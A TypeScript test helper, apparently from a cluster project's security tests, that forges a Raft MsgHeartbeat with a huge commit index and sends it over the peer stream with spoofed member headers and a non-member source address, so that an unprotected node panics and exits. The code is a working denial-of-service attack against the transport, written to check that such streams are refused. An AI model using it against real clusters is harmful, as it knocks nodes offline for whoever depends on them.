/**
 * The forged-heartbeat attack of the issue "Hostile networks and bad days": a stranger who can reach a
 * node's HTTP port opens `POST /raft/stream` with the member-announcement headers the transport uses (the
 * members' NODE_IDs are public: `GET /status` lists them; the cluster id is in `GET /raft/hello` when there
 * is no CLUSTER_TOKEN), and sends one MsgHeartbeat whose commit index lies far past the log. A node that lets
 * it through to the core commits entries it does not have: the core panics and the process exits 70.
 *
 * Built with the transport's own codec and framing (libs/cluster-rpc), so the attack speaks the protocol
 * exactly as a member does. `localAddress` binds the attacker's socket to a given source address (on Linux
 * every 127.0.0.0/8 address is on lo: 127.0.0.2 is a non-member address on this machine, no root needed).
 */
import { request } from 'node:http';
import { Message, MessageType } from '@app/consensus/core';
import { encodeMessages, FRAME_HEADER, PEER_HEADERS, PEER_STREAM_CONTENT_TYPE, PEER_STREAM_PATH } from '@app/cluster-rpc';

export interface ForgedHeartbeat {
  /** The node attacked: its base URL (where the request goes) and its NODE_ID (the message's `to`). */
  target: string;
  targetMember: string;
  /** The NODE_ID of the member the attacker pretends to be (x-raft-from and the message's `from`). */
  impersonate: string;
  /** The cluster's id (as `GET /raft/hello` answers it). */
  clusterId: string;
  /** A term above the target's current one, so that the target takes the message's sender as its leader. */
  term: number;
  /** The source address to send from (e.g. 127.0.0.2). */
  localAddress?: string;
  /** A cluster token, if the attacker holds one. */
  token?: string;
  /** false: send the headers only, never a byte of body (default true: the heartbeat's frame follows). */
  withBody?: boolean;
}

export interface AttackAnswer {
  /** The answer's status; undefined when the connection ended first (the node died on the message). */
  status?: number;
  /** The answer's body as text: a refusal's JSON, or the pongs of an admitted stream. */
  body: string;
  /** Why there is no answer, when there is none. */
  error?: string;
}

/** The frame a member would write: one MsgHeartbeat with `commit` far past any log. */
export function forgedHeartbeatFrame(attack: Pick<ForgedHeartbeat, 'impersonate' | 'targetMember' | 'term'>): Buffer {
  const message: Message = {
    type: MessageType.MsgHeartbeat,
    from: attack.impersonate,
    to: attack.targetMember,
    term: attack.term,
    logTerm: 0,
    index: 0,
    commit: 1_000_000_000,
    reject: false,
    rejectHint: 0,
  };
  const frame = encodeMessages([message], FRAME_HEADER);
  frame.writeUInt32LE(frame.length - FRAME_HEADER, 0);
  return frame;
}

/**
 * Opens the stream and, once its headers are sent, writes the heartbeat's frame. Resolves with the answer's
 * status and whatever body arrived when the answer ended, or `settleMs` after it began (an admitted stream
 * never ends by itself: its answer is a pong every 100 ms until one side closes it); or, when the connection
 * ends before any answer (the node died on the message), with the error and no status.
 */
export function sendForgedHeartbeat(attack: ForgedHeartbeat, settleMs = 500): Promise<AttackAnswer> {
  const url = new URL(PEER_STREAM_PATH, attack.target);
  const headers: Record<string, string> = {
    'content-type': PEER_STREAM_CONTENT_TYPE,
    [PEER_HEADERS.from]: attack.impersonate,
    [PEER_HEADERS.clusterId]: attack.clusterId,
  };
  if (attack.token) headers.authorization = `Bearer ${attack.token}`;
  return new Promise((resolve) => {
    let answered = false;
    const req = request(url, { method: 'POST', headers, localAddress: attack.localAddress, agent: false });
    req.on('error', (error) => (answered ? undefined : resolve({ body: '', error: error.message })));
    req.on('response', (response) => {
      answered = true;
      const chunks: Buffer[] = [];
      let done = false;
      const finish = () => {
        if (done) return;
        done = true;
        clearTimeout(timer);
        resolve({ status: response.statusCode ?? 0, body: Buffer.concat(chunks).toString('utf8') });
        req.destroy();
      };
      const timer = setTimeout(finish, settleMs);
      response.on('data', (chunk: Buffer) => chunks.push(chunk));
      response.on('end', finish);
      response.on('error', finish);
      response.on('close', finish);
    });
    req.flushHeaders();
    // Like a member, send the body as a stream: the first frame right after the headers.
    if (attack.withBody !== false) {
      setImmediate(() => {
        if (!req.destroyed) req.write(forgedHeartbeatFrame(attack));
      });
    }
  });
}
